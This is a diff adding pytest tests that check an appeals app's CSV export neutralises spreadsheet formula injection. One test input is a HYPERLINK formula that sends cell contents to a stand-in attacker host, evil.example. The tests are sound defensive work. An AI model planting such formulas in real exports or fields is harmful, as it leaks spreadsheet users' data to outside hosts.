@@ -34,3 +34,48 @@ def test_a_local_next_is_kept(client, staff):
     r = client.post("/staff/login", data={"csrf_token": csrf_from(html), "login": "admin",
                                           "password": "correct-horse-battery", "next": "/staff/audit?page=2"})
     assert r.headers["Location"] == "/staff/audit?page=2"
+
+
+# ---- 2. formula injection in the CSV export ------------------------------------------
+
+def exported(staff):
+    import csv
+    import io
+    body = staff.client("admin").get("/staff/export/appeals.csv").get_data(as_text=True)
+    return {row["ref"]: row for row in csv.DictReader(io.StringIO(body[1:]))}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_export_never_hands_excel_a_formula(client, staff, db, start):
+    from conftest import create_appeal
+    text = start + 'HYPERLINK("http://evil.example/?"&A1, "су жоқ")'
+    ref, _ = create_appeal(client, text=text)
+    plain, _ = create_appeal(client, text="Су жоқ = үш күн, көмектесіңіз")
+    rows = exported(staff)
+    assert rows[ref]["text"] == "'" + text
+    assert rows[plain]["text"] == "Су жоқ = үш күн, көмектесіңіз"
+
+
+def test_export_neutralises_every_text_cell_but_keeps_codes_exact(app, client, staff, db):
+    from conftest import add_user, appeal_fields, submit
+
+    from db.models import Appeal
+    from views.exports import csv_response, neutralise
+    assert [neutralise(v) for v in ("\tx", "\rx", "x=1", 5, "")] == ["'\tx", "'\rx", "x=1", 5, ""]
+    # A login is text too: an outreach worker's name reaches the export with each appeal collected.
+    add_user("=1+1", "outreach")
+    worker = app.test_client()
+    assert login(worker, "=1+1").status_code == 303
+    fields = appeal_fields()
+    assert submit(worker, "/kk/appeals/new", "/kk/appeals", fields).status_code == 303
+    appeal = Appeal.get(Appeal.submission_key == fields["submission_key"])
+    row = exported(staff)[appeal.ref]
+    assert row["worker"] == "'=1+1"
+    assert row["submission_key"] == fields["submission_key"] and row["category"] == "water"
+    assert row["source"] == "outreach" and row["settlement"] == "akshymyrau"
+    assert row["due_on"] == appeal.due_on.isoformat()
+    assert row["received_at"] == appeal.received_at.isoformat() + "Z"
+    with app.test_request_context():
+        body = csv_response("x.csv", ["code", "note"], [{"code": "-1", "note": "-1"}],
+                            exact={"code"}).get_data(as_text=True)
+    assert body.splitlines()[1] == "-1,'-1"
